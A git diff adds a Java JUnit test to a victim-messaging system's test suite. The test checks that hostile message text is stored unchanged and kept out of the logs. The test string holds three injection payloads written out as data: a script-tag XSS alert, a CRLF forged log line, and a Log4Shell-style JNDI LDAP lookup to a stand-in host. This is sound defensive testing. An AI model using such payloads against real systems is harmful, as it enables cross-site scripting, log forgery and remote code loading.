@@ -12,6 +12,7 @@ import java.util.Set;
 import java.util.function.Consumer;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.trackmycrime.core.LogCapture;
 import org.trackmycrime.core.NotFoundException;
 import org.trackmycrime.core.TrackMyCrime;
 import org.trackmycrime.core.ValidationException;
@@ -543,6 +544,38 @@ abstract class AbstractMessagingTest {
         .hasSize(2)
         .allSatisfy(a -> assertThat(a.action()).isEqualTo(AuditAction.ALTERATION));
     assertThat(messaging.forOfficer(FORCE, "4321")).as("answered").isEmpty();
+  }
+
+  @Test
+  void hostileTextIsKeptAsWrittenAndNeverLogged() {
+    String hostile =
+        "<script>alert('tmc-xss-marker')</script>\r\n2026-01-01 00:00:00 INFO FORGED-LOG-LINE"
+            + " ${jndi:ldap://tmc-jndi-marker.example/a} <b>bold-marker</b>";
+    List<VictimMessage> seen = new ArrayList<>();
+    String log =
+        LogCapture.during(
+            () -> {
+              VictimMessage m =
+                  messaging.send(
+                      NewVictimMessage.of(FORCE, CRIME, "V1", MessageTopic.QUESTION, hostile)
+                          .acknowledgingUrgency());
+              messaging.forward(FORCE, m.messageId(), HUB, "4321", "note " + hostile);
+              messaging.reply(FORCE, m.messageId(), OFFICER, "reply " + hostile);
+              seen.add(
+                  messaging.close(
+                      FORCE, m.messageId(), OFFICER, CloseReason.CONTACTED_DIRECTLY, hostile));
+              seen.add(m);
+            });
+
+    assertThat(seen.get(1).body()).as("stored as written; pages escape it").isEqualTo(hostile);
+    assertThat(messaging.threadsForVictim(FORCE, CRIME, "V1").get(0).replies())
+        .extracting(Reply::text)
+        .containsExactly("reply " + hostile);
+    assertThat(log)
+        .doesNotContain("tmc-xss-marker")
+        .doesNotContain("FORGED-LOG-LINE")
+        .doesNotContain("tmc-jndi-marker")
+        .doesNotContain("bold-marker");
   }
 
   @Test
